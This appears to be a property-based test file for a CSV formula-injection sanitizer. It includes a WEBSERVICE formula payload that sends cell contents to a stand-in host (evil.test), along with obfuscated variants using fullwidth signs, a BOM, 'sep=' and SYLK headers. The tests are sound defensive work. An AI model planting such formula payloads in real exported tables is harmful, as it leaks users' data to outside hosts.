/** What a program that shows tables would calculate, and what it would not. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { withoutFormulas } from '../../../src/delivery/formulas.ts';
import { runs } from '../../support/property-runs.ts';

const CALL = 'WEBSERVICE("ht"&"tps://evil"&"."&"test/?"&A2)';
const SIGNS = [...'=+-@＝＋－＠'];
/** Whatever may part cells: a program may be told to take any of them. */
const MARKS = [...',;|\t:^~#$%&*/<>?_.\u00a0\u2028\0 ', ...SIGNS];

/** Cells as a program reads them that parts them by this, without what it may take away in front. */
function cellsOf(table: string, mark: string): string[] {
  return table
    .split(/[\r\n]/)
    .flatMap((line) => line.split(mark).map((cell) => cell.replace(/^["\s\p{C}]+/u, '')));
}

describe('a table that may hold what strangers wished for', () => {
  it('OM-187 has no cell that begins with a formula, whatever parts its cells', () => {
    const word = fc.constantFrom('secret', '7', '-5', 'a b', '', '"', "it's", ' ', '\n', '\r\n', '\ufeff');
    const formula = fc
      .tuple(fc.constantFrom(...SIGNS), fc.constantFrom('', ' ', '"', '-', '5'))
      .map(([sign, more]) => `${sign}${more}${CALL}`);
    const cells = fc.array(fc.oneof(word, formula), { minLength: 1, maxLength: 8 });

    fc.assert(
      fc.property(cells, fc.constantFrom(...MARKS), (parts, mark) => {
        const calculated = cellsOf(withoutFormulas(parts.join(mark)), mark).filter(
          (cell) => SIGNS.includes(cell.charAt(0)) && cell.includes('WEBSERVICE'),
        );

        expect(calculated).toEqual([]);
      }),
      { numRuns: runs(500) },
    );
  });

  it.each([
    ['a formula', `secret,=${CALL}`, `secret,'=${CALL}`],
    ['one in quotes, behind a tab and a line break', '"\t=A1()","\n+A1()"', '"\t\'=A1()","\n\'+A1()"'],
    ['one in letters of another width', `＝${CALL}`, `'＝${CALL}`],
    ['one behind a mark that shows nothing', `\ufeff=${CALL}`, `\ufeff'=${CALL}`],
    ['one that goes on in the next line', '"-5\n&A1()"', '"\'-5\n&A1()"'],
    ['one beside an address', 'https://a.test/:=A1()', "https://a.test/:'=A1()"],
    ['a mark that the file names itself', `sep=x\nsecretx=${CALL}`, `'sep=x\nsecretx=${CALL}`],
    ['that mark in quotes, behind a mark of order', '\ufeff"SEP=|"', '\ufeff"\'SEP=|"'],
    ['the beginning of another kind of table', 'ID;PWXL;N;E\nC;K0;EA1()', "'ID;PWXL;N;E\nC;K0;EA1()"],
  ])('OM-187 shows %s as text', (_what, table, shown) => {
    expect(withoutFormulas(table)).toBe(shown);
  });

  it.each([
    ['numbers', '-5,+1.5,-3%;"-2"\n-7|+8\n-9'],
    ['dashes in empty cells', 'a,-,-\nb,-,c'],
    ['words', 'run it with -v; ask @dana\nx = 5, a - b\nmail dana@corp.test, 2026-11-22T08:00:00+02:00'],
    ['what is encoded', 'aGVsbG8gd29ybA==,c2VjcmV0='],
    ['web addresses', 'https://git.test:8443/a/-/issues/1?x=-1,see https://a.test/@dana/+'],
  ])('leaves %s as they are', (_what, table) => {
    expect(withoutFormulas(table)).toBe(table);
  });

  it.each(['-', '-5\n', 'a -b', '= ', '-+', 'https://', ' '])(
    'OM-187 is looked through in a time that grows with it alone: %j again and again',
    (part) => {
      const table = `a${' '.repeat(100_000)}${part.repeat(100_000 / part.length)}`;
      const before = performance.now();

      withoutFormulas(table);

      // What grows with the square of it takes minutes.
      expect(performance.now() - before).toBeLessThan(5_000);
    },
  );
});
